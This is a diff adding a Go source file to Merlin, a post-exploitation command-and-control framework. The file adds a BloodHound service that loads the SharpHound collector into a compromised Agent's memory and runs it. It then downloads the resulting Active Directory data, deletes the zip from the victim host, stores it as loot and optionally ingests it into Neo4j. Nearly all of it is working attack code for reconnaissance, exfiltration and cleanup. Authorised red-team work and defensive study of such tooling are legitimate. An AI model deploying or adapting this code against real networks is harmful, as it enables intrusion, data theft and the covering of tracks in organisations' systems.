@@ -0,0 +1,237 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2024 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+// Package bloodhound is a service that runs the SharpHound collector through an Agent, downloads the zip file it
+// creates, stores it as loot, and optionally ingests the collected data into a Neo4j database
+package bloodhound
+
+import (
+	// Standard
+	"context"
+	"crypto/sha256"
+	"encoding/base64"
+	"fmt"
+	"log/slog"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"time"
+
+	// 3rd Party
+	"github.com/google/uuid"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin/v2/pkg/client/message"
+	"github.com/Ne0nd0g/merlin/v2/pkg/client/message/memory"
+	"github.com/Ne0nd0g/merlin/v2/pkg/loot"
+	"github.com/Ne0nd0g/merlin/v2/pkg/services/agent"
+	"github.com/Ne0nd0g/merlin/v2/pkg/services/job"
+	lootService "github.com/Ne0nd0g/merlin/v2/pkg/services/loot"
+)
+
+const (
+	// collectTimeout is the longest a collection runs, including the time spent waiting on the Agent to check in
+	collectTimeout = 2 * time.Hour
+	// assemblyName is the name the collector is loaded into the Agent's CLR as
+	assemblyName = "SharpHound"
+	// defaultOutputDirectory is where SharpHound writes its zip file when the operator didn't provide a directory
+	defaultOutputDirectory = "C:\\Windows\\Temp"
+)
+
+// Service holds references to the services used to task Agents and store the collected data
+type Service struct {
+	agentService *agent.Service
+	jobService   *job.Service
+	lootService  *lootService.Service
+	messageRepo  message.Repository
+}
+
+// memoryService is an in-memory instantiation of the BloodHound service so that it can be used by others
+var memoryService *Service
+
+// NewBloodHoundService is a factory to create a BloodHound service to be used by other packages or services
+func NewBloodHoundService() *Service {
+	if memoryService == nil {
+		memoryService = &Service{
+			agentService: agent.NewAgentService(),
+			jobService:   job.NewJobService(),
+			lootService:  lootService.NewLootService(),
+			messageRepo:  memory.NewRepository(),
+		}
+	}
+	return memoryService
+}
+
+// collection tracks a single run of the collector so its progress can be reported to clients
+type collection struct {
+	id      uuid.UUID
+	agent   uuid.UUID
+	ctx     context.Context
+	service *Service
+}
+
+// Collect loads the SharpHound assembly at the provided server-side path into the Agent and runs it in the background
+// with the provided collector arguments (e.g., -c All). The resulting zip file is downloaded, removed from the Agent's
+// host, stored as loot, and ingested into Neo4j if a database was configured. The ID of the collection is returned
+func (s *Service) Collect(agentID uuid.UUID, assembly string, args []string) (string, error) {
+	if !s.agentService.Exist(agentID) {
+		return "", fmt.Errorf("pkg/services/bloodhound.Collect(): agent %s does not exist", agentID)
+	}
+	data, err := os.ReadFile(assembly) // #nosec G304 - The operator provides the path to the collector on the server
+	if err != nil {
+		return "", fmt.Errorf("pkg/services/bloodhound.Collect(): there was an error reading the collector assembly: %s", err)
+	}
+
+	ctx, cancel := context.WithTimeout(context.Background(), collectTimeout)
+	c := &collection{
+		id:      uuid.New(),
+		agent:   agentID,
+		ctx:     ctx,
+		service: s,
+	}
+	args, directory, zipName := c.arguments(args)
+
+	go func() {
+		defer cancel()
+		c.log(message.Info, fmt.Sprintf("Started BloodHound collection with %s", assembly))
+		err := c.run(data, args, directory, zipName)
+		if err != nil {
+			c.log(message.Warn, fmt.Sprintf("BloodHound collection failed: %s", err))
+			return
+		}
+		c.log(message.Success, "BloodHound collection completed")
+	}()
+	return c.id.String(), nil
+}
+
+// arguments adds the output directory and zip file name to the collector's arguments so the resulting zip file can be
+// found. The operator's output directory is kept if they provided one
+func (c *collection) arguments(args []string) ([]string, string, string) {
+	directory := defaultOutputDirectory
+	for i, arg := range args {
+		if strings.EqualFold(strings.TrimLeft(arg, "-"), "outputdirectory") && i+1 < len(args) {
+			directory = args[i+1]
+		}
+	}
+	if directory == defaultOutputDirectory {
+		args = append(args, "--outputdirectory", directory)
+	}
+	zipName := fmt.Sprintf("%s.zip", c.id)
+	return append(args, "--zipfilename", zipName), directory, zipName
+}
+
+// run executes each step of the collection, waiting on the Agent to return the results of one job before the next
+func (c *collection) run(assembly []byte, args []string, directory, zipName string) error {
+	hash := sha256.Sum256(assembly)
+	_, err := c.task("load-assembly", []string{base64.StdEncoding.EncodeToString(assembly), assemblyName, fmt.Sprintf("%x", hash)})
+	if err != nil {
+		return err
+	}
+
+	stdout, err := c.task("invoke-assembly", append([]string{assemblyName}, args...))
+	if err != nil {
+		return err
+	}
+	path, err := c.zipPath(stdout, directory, zipName)
+	if err != nil {
+		return err
+	}
+
+	_, err = c.task("download", []string{path})
+	if err != nil {
+		return err
+	}
+	// The file transfer is written to the Agent's directory using only the file's name
+	name := filepath.Base(strings.ReplaceAll(path, "\\", "/"))
+	local := filepath.Join("data", "agents", c.agent.String(), name)
+	data, err := os.ReadFile(local) // #nosec G304 - The path is built from the Agent's ID and the downloaded file's name
+	if err != nil {
+		return fmt.Errorf("there was an error reading the downloaded zip file: %s", err)
+	}
+	if _, err = c.task("rm", []string{path}); err != nil {
+		c.log(message.Warn, fmt.Sprintf("The zip file %s could not be removed from the Agent's host: %s", path, err))
+	}
+
+	l, err := c.service.lootService.Add(c.agent, c.id.String(), loot.OTHER, data, "zip", map[string]string{"file": name, "collector": "bloodhound"})
+	if err != nil {
+		return err
+	}
+	c.log(message.Success, fmt.Sprintf("Stored %d byte BloodHound zip file as loot at %s", l.Size(), l.File()))
+
+	if !configured() {
+		return nil
+	}
+	counts, err := ingest(c.ctx, data)
+	if err != nil {
+		return fmt.Errorf("there was an error ingesting the data into Neo4j: %s", err)
+	}
+	c.log(message.Success, fmt.Sprintf("Ingested %s into Neo4j", counts))
+	return nil
+}
+
+// task adds a job for the collection's Agent and waits for its results. Results with errors are returned as an error
+func (c *collection) task(jobType string, jobArgs []string) (string, error) {
+	jobID, err := c.service.jobService.Task(c.agent, jobType, jobArgs)
+	if err != nil {
+		return "", fmt.Errorf("there was an error adding the %s job: %s", jobType, err)
+	}
+	slog.Debug("BloodHound collection job added", "collection", c.id, "job", jobID, "type", jobType)
+	results, err := c.service.jobService.Wait(c.ctx, jobID)
+	if err != nil {
+		return "", err
+	}
+	if results.Stderr != "" {
+		return results.Stdout, fmt.Errorf("the %s job %s returned an error: %s", jobType, jobID, results.Stderr)
+	}
+	return results.Stdout, nil
+}
+
+// zipPath finds the full path to the zip file the collector created. SharpHound prefixes the zip file name with a
+// timestamp, so the path is taken from the collector's output or, failing that, by listing the output directory
+func (c *collection) zipPath(stdout, directory, zipName string) (string, error) {
+	re := regexp.MustCompile(`[^\s"']*_` + regexp.QuoteMeta(zipName))
+	if path := re.FindString(stdout); path != "" {
+		if strings.ContainsAny(path, "\\/") {
+			return path, nil
+		}
+		return strings.TrimRight(directory, "\\") + "\\" + path, nil
+	}
+
+	listing, err := c.task("ls", []string{directory})
+	if err != nil {
+		return "", err
+	}
+	name := re.FindString(listing)
+	if name == "" {
+		return "", fmt.Errorf("the collector's zip file %s was not found in %s", zipName, directory)
+	}
+	return strings.TrimRight(directory, "\\") + "\\" + filepath.Base(strings.ReplaceAll(name, "\\", "/")), nil
+}
+
+// log sends a message about the collection's progress to clients and writes it to the Agent's log
+func (c *collection) log(level message.Level, msg string) {
+	msg = fmt.Sprintf("[bloodhound %s] %s", c.id, msg)
+	slog.Info(msg, "agent", c.agent)
+	if a, err := c.service.agentService.Agent(c.agent); err == nil {
+		a.Log(msg)
+	}
+	c.service.messageRepo.Add(message.NewMessage(level, msg))
+}